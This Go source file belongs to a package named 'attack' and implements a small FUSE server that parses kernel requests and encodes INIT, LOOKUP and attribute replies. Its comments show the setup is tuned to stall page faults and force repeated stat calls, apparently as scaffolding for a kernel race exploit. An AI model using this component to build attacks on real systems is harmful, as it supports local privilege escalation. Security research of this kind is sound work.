package attack

import (
	"encoding/binary"
	"errors"
)

// Requests of the FUSE protocol (include/uapi/linux/fuse.h) that a read-only
// file system for a few files meets.
const (
	opLookup      = 1
	opForget      = 2
	opGetattr     = 3
	opSetattr     = 4
	opOpen        = 14
	opRead        = 15
	opWrite       = 16
	opRelease     = 18
	opFlush       = 25
	opInit        = 26
	opSetlk       = 32
	opSetlkw      = 33
	opInterrupt   = 36
	opPoll        = 40
	opBatchForget = 42
)

// Sizes of messages and of what follows their header.
const (
	requestHeader = 40
	replyHeader   = 16
	attrSize      = 88
	initSize      = 64
)

const (
	rootNode      = 1
	flagWriteback = 1 << 16 // FUSE_WRITEBACK_CACHE, of the INIT message
)

var native = binary.NativeEndian

// request is a request's header and what follows it.
type request struct {
	op     uint32
	unique uint64
	node   uint64
	pid    uint32 // the thread that asks
	body   []byte
}

var errShort = errors.New("short FUSE request")

// parseRequest takes a message as the kernel delivers it: one with each read.
func parseRequest(b []byte) (request, error) {
	if len(b) < requestHeader || uint64(native.Uint32(b)) != uint64(len(b)) {
		return request{}, errShort
	}
	return request{
		op: native.Uint32(b[4:]), unique: native.Uint64(b[8:]), node: native.Uint64(b[16:]),
		pid: native.Uint32(b[32:]), body: b[requestHeader:],
	}, nil
}

// readSize is how many bytes a read asks for.
func (r request) readSize() int {
	if len(r.body) < 20 {
		return 0
	}
	return int(native.Uint32(r.body[16:]))
}

// reply encodes an answer; errno is 0 or positive.
func reply(unique uint64, errno int32, body []byte) []byte {
	b := make([]byte, replyHeader, replyHeader+len(body))
	native.PutUint32(b, uint32(replyHeader+len(body)))
	native.PutUint32(b[4:], uint32(-errno))
	native.PutUint64(b[8:], unique)
	return append(b, body...)
}

// initReply accepts the kernel's version. Without FUSE_ASYNC_READ whoever
// faults on a page sleeps interruptibly, as in a wait for input.
func initReply(body []byte) []byte {
	b := make([]byte, initSize)
	copy(b, body[:min(len(body), 12)]) // major, minor, max_readahead
	native.PutUint32(b[12:], flagWriteback)
	native.PutUint32(b[20:], 4096) // max_write
	return b
}

// attributes encodes fuse_attr: a directory, or a file of anybody's.
func attributes(node uint64) []byte {
	mode, size := uint32(0o100666), uint64(fileSize)
	if node == rootNode {
		mode, size = 0o040777, 0
	}
	b := make([]byte, attrSize)
	native.PutUint64(b, node)
	native.PutUint64(b[8:], size)
	native.PutUint32(b[60:], mode)
	native.PutUint32(b[64:], 1) // nlink
	native.PutUint32(b[80:], 4096)
	return b
}

// entryReply answers LOOKUP. The name may be cached; the attributes may not,
// so that each stat asks again.
func entryReply(node uint64) []byte {
	b := make([]byte, 40, 40+attrSize)
	native.PutUint64(b, node)
	native.PutUint64(b[16:], 3600) // entry_valid
	return append(b, attributes(node)...)
}

// attrReply answers GETATTR and SETATTR.
func attrReply(node uint64) []byte {
	return append(make([]byte, 16, 16+attrSize), attributes(node)...)
}
